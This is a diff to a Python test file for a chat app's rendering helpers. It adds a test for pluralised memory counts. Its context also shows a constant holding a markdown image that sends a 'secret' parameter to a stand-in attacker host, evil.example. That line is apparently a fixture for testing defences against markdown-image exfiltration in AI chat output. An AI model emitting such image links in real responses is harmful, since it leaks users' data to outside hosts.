@@ -7,7 +7,7 @@ from datetime import UTC, datetime
 import markdown_it
 
 from agent_memory import MemoryItem
-from chainlit_app.chat import as_text, executor_markdown, fenced, inline_code, memory_table, one_line
+from chainlit_app.chat import as_text, executor_markdown, fenced, inline_code, memories, memory_table, one_line
 
 EXFILTRATE = "![pixel](https://evil.example/collect?secret=1)"
 
@@ -63,3 +63,9 @@ def test_errors_for_people_are_one_line_of_text() -> None:
 
 def test_as_text_keeps_the_characters() -> None:
     assert rendered(as_text("a_b *c* <d>")).strip() == "<p>a_b *c* &lt;d&gt;</p>"
+
+
+def test_counts_of_memories_read_as_english() -> None:
+    assert (memories(1), memories(2), memories(0), memories(12_345)) == (
+        "1 memory", "2 memories", "0 memories", "12,345 memories"
+    )  # fmt: skip
